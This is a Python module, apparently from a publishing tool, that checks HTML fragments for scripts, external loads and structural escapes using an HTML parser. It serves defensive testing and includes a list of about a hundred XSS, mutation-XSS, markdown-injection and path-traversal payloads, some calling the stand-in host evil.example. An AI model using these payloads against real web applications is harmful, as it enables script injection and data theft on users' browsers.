"""What a browser would make of a fragment: its faults, found with an HTML parser, and texts that try to cause them."""

from __future__ import annotations

import re
import warnings
from functools import cache
from typing import Any

OWN_IDS = re.compile(r"(c-|eq[-:]|fig-|tbl-|fn-|fnref-|cite-|ref-)")
FORBIDDEN_TAGS = frozenset(
    {"applet", "base", "body", "button", "embed", "fieldset", "form", "frame", "frameset", "head", "html", "iframe"}
    | {"link", "meta", "noscript", "object", "option", "plaintext", "script", "select", "style", "svg", "template"}
    | {"textarea", "title", "xmp"}
)
LOADING = frozenset({"src", "srcset", "poster", "background", "data", "action", "formaction", "xlink:href", "ping"})


def escapes(html: str) -> list[str]:
    """Return what in the fragment would run, load, clobber, or stand outside the cell that it is put into."""
    root = _parse(
        f'<article id="outer"><section id="cell">{html}</section><p id="after"></p></article><i id="end"></i>'
    )
    faults = [] if [_name(each) for each in root] == ["article", "i"] else ["it leaves the article"]
    article = root[0]
    if [_name(each) for each in article] != ["section", "p"]:
        faults.append("it leaves the section")
    seen: set[str] = set()
    for element in article[0].iter():
        faults.extend(_faults(element, seen))
    return faults


def _faults(element: Any, seen: set[str]) -> list[str]:
    name, faults = _name(element), []
    if name in FORBIDDEN_TAGS:
        faults.append(f"<{name}>")
    for key, value in element.attrib.items():
        key = re.sub(r"^\{.*\}", "", str(key)).lower()
        if key.startswith("on") or key in {"style", "srcdoc", "name", "http-equiv", "target"}:
            faults.append(f"{name} {key}")
        if key in LOADING and not re.match(r"\{static\}/|data:image/|/(?![/\\])", value):
            faults.append(f"{name} {key}={value}")
        if key in {"href", "xlink:href"} and not _safe_link(value):
            faults.append(f"{name} {key}={value}")
        if key == "id" and name not in {"h2", "h3", "h4", "h5", "h6"} and value not in {"cell", "references"}:
            faults.extend([] if OWN_IDS.match(value) else [f"id={value}"])
        if key == "id" and value in seen and not value.startswith("c-"):
            faults.append(f"id={value} twice")
        seen.update([value] if key == "id" else [])
    return faults


def _safe_link(value: str) -> bool:
    compact = re.sub(r"[\x00-\x20]", "", value).lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", compact)
    if "{" in re.sub(r"^\{(static|filename)\}/", "", value) or "|" in value:
        return False
    return scheme is None or scheme[1] in {"http", "https", "mailto", "tel"}


def _name(element: Any) -> str:
    return str(element.tag).rpartition("}")[2].lower() if isinstance(element.tag, str) else "comment"


def _parse(html: str) -> Any:
    import html5lib

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return html5lib.parseFragment(html, namespaceHTMLElements=False)


@cache
def hostile() -> tuple[str, ...]:
    """Return texts of the shapes that break sanitisers, one for each idea."""
    return (
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror=\"alert(1)\" alt='>'>",
        "<svg onload=alert(1)><circle/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
        "<math href='javascript:alert(1)'><mi>x</mi></math>",
        "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' &#106;avascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/a.png)",
        "![x](//evil.example/a.png)",
        "![x](\\\\evil.example\\a.png)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        '![x" onerror="alert(1)](figures/z%20a.png)',
        '![x](figures/z%20a.png "a\\" onerror=\\"alert(1)")',
        "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
        "<img src='https://evil.example/a.png'>",
        "<img srcset='//evil.example/a.png 2x' src=x>",
        "<video src=//evil.example/a.mp4 poster=//evil.example/p.png></video>",
        "<audio autoplay src=//evil.example/a.mp3>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css><style>*{background:url(//evil.example)}</style>",
        "<div style='background:url(//evil.example)'>x</div>",
        "<form action=//evil.example><input name=q><button>x</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<select><option>x",
        "<textarea><script>alert(1)</script>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext>",
        "<title><script>alert(1)</script></title>",
        "</section></article><h1>out</h1>",
        "</div></div></main></body></html>",
        "<div><div><div>",
        "<table><tr><td>x",
        "<b><i><u>",
        "<!-- open",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>",
        "<!DOCTYPE html>",
        "<p id=cell>x</p><p id=outer>y</p>",
        "<a name=location id=location>x</a>",
        "<img name=getElementById src=x>",
        "<p class='admonition cell cell-code'>fake</p>",
        "<a href='{filename}/secret.md'>x</a>",
        "[x]({filename}/secret.md)",
        "[x]({static}/../../etc/passwd)",
        "[x](|filename|secret.md)",
        "<img src='{static}/../x.png'>",
        "[x](../../../etc/passwd)",
        "![x](../../../../etc/hostname)",
        '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
        "`</code><script>alert(1)</script>`",
        "```{note} <script>alert(1)</script>\n<script>alert(1)</script>\n```",
        ':::{x"onclick="y}\n:::',
        '::: {.callout-note title="<img src=x onerror=alert(1)>"}\n:::',
        "$\\href{javascript:alert(1)}{x}$",
        "$\\class{admonition}{x}\\style{background:url(//evil.example)}{y}$",
        "$\\text{</math><script>alert(1)</script>}$",
        "$<img src=x onerror=alert(1)>$",
        '$$x$$ {#eq-a"onclick="b}',
        '$$\\label{"><script>alert(1)</script>}x$$',
        '\\eqref{"><script>}',
        '@fig-"><script>alert(1)</script>',
        '[@"><script>alert(1)</script>]',
        "[@dean2008, <script>alert(1)</script> <img src=x onerror=alert(1)>]",
        '![a](figures/z%20a.png){#fig-x fig-alt="\\" onerror=alert(1)"}',
        '![a](figures/z%20a.png){width=1"onerror=alert(1)}',
        "x[^<script>]\n\n[^<script>]: alert(1)",
        "^[<script>alert(1)</script>]",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "## <a id=x></a> </h2><script>alert(1)</script>",
        "Term\n: <script>alert(1)</script>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<x-y onclick=alert(1)>z</x-y>",
        "<a href=https://e.example target=_blank ping=//evil.example>x</a>",
        "<p>\x00<scr\x00ipt>alert(1)</script>",
        "<div\x0bonclick=alert(1)>x</div>",
        "<img/src=x/onerror=alert(1)>",
        "<<script>alert(1)//<</script>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>">',
    )
